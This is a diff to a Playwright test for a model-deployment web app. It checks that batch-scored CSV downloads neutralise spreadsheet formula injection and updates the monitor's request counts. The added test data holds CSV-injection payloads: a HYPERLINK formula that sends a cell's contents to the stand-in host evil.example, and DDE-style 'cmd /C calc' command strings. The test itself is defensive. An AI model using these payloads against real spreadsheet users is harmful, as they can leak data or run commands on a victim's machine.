@@ -97,6 +97,25 @@ test('deploy a trained model, predict through the same-origin endpoint, batch-sc
   expect(scored[1]).toMatch(/^5,3\.4,1\.5,0\.2,setosa,/);
   expect(scored[2]).toMatch(/,virginica,/);
 
+  // Cells a spreadsheet would run as formulas come back neutralised (OWASP: a leading '), plain negative numbers stay numbers.
+  const hostile = [
+    'sepal length (cm),sepal width (cm),petal length (cm),petal width (cm),note,offset,=SUM(1+1)',
+    '5.0,3.4,1.5,0.2,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",-5,a',
+    '6.9,3.1,5.4,2.1,+1+cmd|\' /C calc\'!A0,-0.5,b',
+    '5.8,2.7,4.1,1.0,-2+3+cmd|\' /C calc\'!A0,3,c',
+    '5.1,3.5,1.4,0.2,@SUM(1+1),-1,d',
+  ].join('\n');
+  await endpoint.getByTestId('batch-file').setInputFiles({ name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(hostile) });
+  await expect(endpoint.getByTestId('batch-download')).toHaveAttribute('download', 'hostile-iris-predictions.csv');
+  const hostileDownload = page.waitForEvent('download');
+  await endpoint.getByTestId('batch-download').click();
+  const neutralised = (await readFile(await (await hostileDownload).path(), 'utf8')).trim().split('\n');
+  expect(neutralised[0]).toBe(`sepal length (cm),sepal width (cm),petal length (cm),petal width (cm),note,offset,"'=SUM(1+1)",prediction,p(setosa),p(versicolor),p(virginica)`);
+  expect(neutralised[1]).toMatch(/^5,3\.4,1\.5,0\.2,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""click""\)",-5,a,setosa,/);
+  expect(neutralised[2]).toMatch(/^6\.9,3\.1,5\.4,2\.1,"'\+1\+cmd\|' \/C calc'!A0",-0\.5,b,virginica,/);
+  expect(neutralised[3]).toMatch(/^5\.8,2\.7,4\.1,1,"'-2\+3\+cmd\|' \/C calc'!A0",3,c,/);
+  expect(neutralised[4]).toMatch(/^5\.1,3\.5,1\.4,0\.2,"'@SUM\(1\+1\)",-1,d,setosa,/);
+
   // Replay every iris row with petal length moved by +2 standard deviations: the monitor flags it.
   const replay = endpoint.getByTestId('replay-form');
   await replay.getByLabel('Partition (seeded 70/15/15)').selectOption('all');
@@ -109,7 +128,8 @@ test('deploy a trained model, predict through the same-origin endpoint, batch-sc
   const monitor = endpoint.getByTestId('endpoint-monitor');
   await monitor.getByLabel('Window').selectOption({ label: '1 min' });
   await expect(monitor.getByTestId('monitor-status')).toHaveAttribute('data-status', /amber|red/);
-  await expect(monitor.getByTestId('monitor-requests')).toContainText('155 requests');
+  // 2 single predictions, 3 + 4 batch-scored rows and 150 replayed ones.
+  await expect(monitor.getByTestId('monitor-requests')).toContainText('159 requests');
   await expect(monitor.getByTestId('monitor-requests')).toContainText('p95');
   await expect(monitor.locator('[data-feature="petal length (cm)"]')).toHaveAttribute('data-status', /amber|red/);
   await expect(monitor.locator('[data-feature="sepal width (cm)"]')).toHaveAttribute('data-status', 'green');
@@ -125,7 +145,7 @@ test('deploy a trained model, predict through the same-origin endpoint, batch-sc
     const list = await (await fetch('/api/endpoints')).json();
     return { health, list };
   });
-  expect(after.health).toMatchObject({ status: 'ok', logged: 155 });
+  expect(after.health).toMatchObject({ status: 'ok', logged: 159, logFailures: 0 });
   expect(after.list.endpoints).toEqual([expect.objectContaining({ name: 'iris', live: 1, versions: 2, url: '/api/endpoints/iris/predict' })]);
 });
 
